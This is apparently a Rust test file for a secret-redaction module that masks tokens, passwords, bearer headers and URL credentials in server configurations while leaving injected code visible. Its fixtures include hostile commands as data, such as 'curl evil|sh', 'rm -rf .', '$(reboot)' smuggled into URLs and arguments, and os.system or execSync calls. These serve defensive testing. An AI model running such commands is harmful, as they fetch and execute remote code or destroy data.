use super::*;

fn redacted(value: &str, parts: Vec<SecretPart>) -> String {
    let mut shown = value.to_owned();
    for part in parts.into_iter().rev() {
        shown.replace_range(part.range, "*");
    }
    shown
}

#[test]
fn values_that_are_called_secrets_are_hidden() {
    for (name, value, shown) in [
        ("GITHUB_TOKEN", "abc", "*"),
        ("GITHUB_TOKEN", "${GITHUB_TOKEN}", "${GITHUB_TOKEN}"),
        ("Authorization", "Bearer abc", "Bearer *"),
        ("Authorization", "Bearer ${T}", "Bearer ${T}"),
        ("Authorization", "Bearer ${T:-abc}", "Bearer ${T:-*}"),
        ("x-api-key", "$${a}b", "*"),
        ("X-API-Key", "${A}x{file:b}", "${A}*{file:b}"),
        ("apiKey", "v", "*"),
        ("TOKEN_URL", "https://h/", "https://h/"),
        ("API_KEY_FILE", "/k", "/k"),
        ("KEYBOARD", "us", "us"),
        ("API_KEY_COMMAND", "sh evil", "sh evil"),
        ("BASH_ENV", "http://$(reboot)@h/ bearer $(reboot)", "http://$(reboot)@h/ bearer $(reboot)"),
        ("PATH", "/bin", "/bin"),
        ("DATABASE", "postgres://u:p@h/db", "postgres://*@h/db"),
        ("NOTE", "ghp_0123456789abcdef0123", "*"),
        ("NOTE", "${X:-ghp_0123456789abcdef0123}", "${X:-*}"),
        ("NOTE", "a=${X:-sk-0123456789abcdef0123},b", "a=${X:-*},b"),
        ("NOTE", "${X:-info}", "${X:-info}"),
        ("BASE", "https://h/${X:-ghp_0123456789abcdef0123}/mcp", "https://h/${X:-*}/mcp"),
        (
            "HEADERS",
            r#"{"Authorization": "Bearer abc", "X": "1"}"#,
            r#"{"Authorization": "Bearer *", "X": "1"}"#,
        ),
        ("HEADERS", "Authorization=Bearer ${T}", "Authorization=Bearer ${T}"),
        ("NOTE", "${X:-ghp_0123456789abcdef0123:ghp_0123456789abcdef4567}", "${X:-*}"),
        ("NOTE", "${X:-sk-a1b2c3d4=sk-e5f6a7b8}:sk-c9d0e1f2", "${X:-*}:*"),
        ("NOTE", "sk-a1b2c3d4:-sk-e5f6a7b8", "*:-*"),
        ("BASE", "https://h/sk-a1b2c3d4:-sk-e5f6a7b8/mcp", "https://h/*/mcp"),
        ("URLS", "a=é://x,http://u@h/", "a=é://x,http://*@h/"),
    ] {
        assert_eq!(redacted(value, find_in_value(name, value)), shown, "{name}={value}");
    }
}

fn redacted_args(args: &[&str]) -> Vec<String> {
    redacted_args_of("s", args)
}

fn redacted_args_of(command: &str, args: &[&str]) -> Vec<String> {
    let args: Vec<String> = args.iter().map(ToString::to_string).collect();
    args.iter().zip(find_in_args(command, &args)).map(|(arg, parts)| redacted(arg, parts)).collect()
}

#[test]
fn arguments_that_hold_secrets_are_hidden() {
    let args = [
        "-y",
        "@scope/server-everything@2025.11.25",
        "--api-key",
        "abc",
        "--token=abc",
        "-e",
        "DB_PASSWORD=abc",
        "-e",
        "LEVEL=1",
        "--header",
        "Authorization: Bearer abc",
        "--header",
        "X-Level: 2",
        "--key-file",
        "/k",
        "--secret",
        "--verbose",
        "https://h/mcp?api_key=abc&x=1",
        "--database-url=postgres://u:p@h/db",
        "--header=X-Api-Key: abc",
        "-H=X-Level: 2",
    ];
    let expected = [
        "-y",
        "@scope/server-everything@2025.11.25",
        "--api-key",
        "*",
        "--token=*",
        "-e",
        "DB_PASSWORD=*",
        "-e",
        "LEVEL=1",
        "--header",
        "Authorization: Bearer *",
        "--header",
        "X-Level: 2",
        "--key-file",
        "/k",
        "--secret",
        "--verbose",
        "https://h/mcp?api_key=*&x=1",
        "--database-url=postgres://*@h/db",
        "--header=X-Api-Key: *",
        "-H=X-Level: 2",
    ];
    assert_eq!(redacted_args(&args), expected);
}

/// SE-04: a person sees all that would run.
#[test]
fn code_is_never_taken_for_a_secret() {
    let random = "0a1b2c3d4e5f6a7b8c9d0e1f";
    let known = "ghp_0123456789abcdef0123";
    for args in [
        &["-c", "API_KEY=$(touch /tmp/x) true"][..],
        &["-c", "PASSWORD=1\nimport os\nos.system('reboot')"],
        &["-c", "PASSWORD=os.system;PASSWORD('reboot')"],
        &["--eval", "--token", "-e", "PASSWORD=require(\"child_process\").execSync(\"reboot\")"],
        &["-c", "TOKEN=1; curl evil|sh"],
        &["-c", "TOKEN=curl; $TOKEN evil"],
        &["TOKEN=rm", "sh", "-c", "$TOKEN -rf ."],
        &["-c", "\"$2\" -rf .", "--token", "rm"],
        &["-c", "alias my-token=reboot; my-token"],
        &["/c", "set TOKEN=calc", "&", "%TOKEN%"],
        &["--token", "rm -rf ."],
        &["--token", "./evil"],
        &["--token", "`reboot`"],
        &["--password-command", "evil"],
        &["-c", "alias.key=!reboot", "key"],
        &["-c", "-H", "X-Token:; reboot"],
        &["-c", "http://$(reboot)@h?token=$(reboot)"],
        &["-c", "basic(){ \"$@\";}; basic reboot"],
        &["-c", "${X:-sk-$(reboot>0123456789)}"],
    ] {
        assert_eq!(redacted_args(args), args);
    }
    for (arg, shown) in [
        ("API_KEY=k; touch /tmp/x; cat".to_owned(), "API_KEY=*; touch /tmp/x; cat".to_owned()),
        ("X_TOKEN=1 curl evil".to_owned(), "X_TOKEN=* curl evil".to_owned()),
        ("A_KEY=\"k\" B_KEY='l' x".to_owned(), "A_KEY=\"*\" B_KEY='*' x".to_owned()),
        ("Server=x;Password=p;Port=1".to_owned(), "Server=x;Password=*;Port=1".to_owned()),
        (format!("API_KEY={random}; curl evil|sh"), "API_KEY=*; curl evil|sh".to_owned()),
        (format!("x {known}$(reboot)"), "x *$(reboot)".to_owned()),
        (format!("TOKEN={known} x https://u:p@h/?key=1|sh"), "TOKEN=* x https://*@h/?key=1|sh".to_owned()),
    ] {
        assert_eq!(redacted_args(&["-c", &arg]), ["-c", &*shown]);
    }
    assert_eq!(redacted_args(&["-c", "exec x \"$@\"", "--token", random])[3], "*");
}

#[test]
fn a_token_is_a_secret_where_a_package_name_is_none() {
    let random = "0f8fad5bd9cb469fa16570867728950e";
    for (command, args, shown) in [
        ("npx", &["-y", "sk-learn-mcp-server@1.2.3"][..], &["-y", "sk-learn-mcp-server@1.2.3"][..]),
        ("npx", &["-y", "sk-live-S3CR3T0123456789"], &["-y", "*"]),
        ("npx", &["-y", "sk-S3CR3T"], &["-y", "*"]),
        ("npx", &["-y", random], &["-y", "*"]),
        ("npx", &["-y", "server", random, "sk-S3CR3T"], &["-y", "server", "*", "*"]),
        ("uvx", &["--from", "sk-learn-mcp-server", "run"], &["--from", "sk-learn-mcp-server", "run"]),
        ("uvx", &["--from", "sk-live-S3CR3T0123456789", "run"], &["--from", "*", "run"]),
        ("cmd", &["/c", "npx", "sk-learn-mcp-server"], &["/c", "npx", "sk-learn-mcp-server"]),
        ("npx", &["server", "sk-learn-mcp-server"], &["server", "sk-learn-mcp-server"]),
        ("timeout", &["60", "npx", "-y", "sk-learn-server"], &["60", "npx", "-y", "sk-learn-server"]),
        ("s", &["--commit", random, "--database-id", random], &["--commit", random, "--database-id", random]),
    ] {
        assert_eq!(redacted_args_of(command, args), shown, "{command} {args:?}");
    }
}

#[test]
fn a_command_line_in_one_string_is_searched_like_arguments() {
    for (command, shown) in [
        ("python3 x --token S", "python3 x --token *"),
        ("python3  x --api-key=S -v", "python3  x --api-key=* -v"),
        ("x --token 'S' --key \"T\"", "x --token '*' --key \"*\""),
        ("x -H \"Authorization: Bearer S\" y", "x -H \"Authorization: Bearer *\" y"),
        ("x --header='Authorization: Bearer S'", "x --header='Authorization: Bearer *'"),
        ("npx -y sk-learn-mcp-server --key S", "npx -y sk-learn-mcp-server --key *"),
        ("npx -y sk-live-S3CR3T0123456789", "npx -y *"),
        ("x --token $(reboot)", "x --token $(reboot)"),
        ("x --token", "x --token"),
        ("C:\\Program Files\\server.exe", "C:\\Program Files\\server.exe"),
        ("--token", "--token"),
        ("", ""),
    ] {
        assert_eq!(redacted(command, find_in_command(command)), shown);
    }
}

#[test]
fn a_secret_in_a_default_stays_in_the_configuration() {
    let value = "${X:-ghp_0123456789abcdef0123:ghp_0123456789abcdef4567}";
    let parts = find_in_value("NOTE", value);
    assert_eq!(parts, [SecretPart { range: 5..value.len() - 1, is_storable: false }]);
}

#[test]
fn values_of_secrets_are_returned() {
    let words =
        ["x --pass 'p q'", "-H", "Authorization: Bearer T", "--token", "/k+1", "--db=postgres://u:p@h/d"];
    let words = words.map(ToOwned::to_owned);
    assert_eq!(secret_values_in_words(&words), ["T", "/k+1", "u:p", "p q"]);
    assert_eq!(secret_values_in_pair("API_TOKEN", "a;b"), ["a;b"]);
    assert_eq!(secret_values_in_pair("DB", "postgres://u:p@h/d"), ["u:p"]);
    assert!(secret_values_in_pair("LEVEL", "verbose").is_empty());
}

#[test]
fn a_word_in_doubt_is_a_secret_to_who_only_asks() {
    for words in [&["password=two words"][..], &["token=$x"], &["--token", "-a;b"]] {
        let words: Vec<String> = words.iter().map(ToString::to_string).collect();
        assert!(has_secret(&words), "{words:?}");
    }
}

#[test]
fn urls_show_what_is_no_secret() {
    for (url, shown) in [
        ("https://mcp.example.com/v1/mcp?x=1", "https://mcp.example.com/v1/mcp?x=1"),
        ("https://h/s/0f8fad5b-d9cb-469f-a165-70867728950e/mcp", "https://h/s/*/mcp"),
        ("https://u:p@h", "https://*@h"),
        ("https://h?token=a&b=c", "https://h?token=*&b=c"),
        ("https://h/?token=${T}", "https://h/?token=${T}"),
        ("not a url", "not a url"),
    ] {
        assert_eq!(redacted(url, find_in_url(url)), shown, "{url}");
    }
}
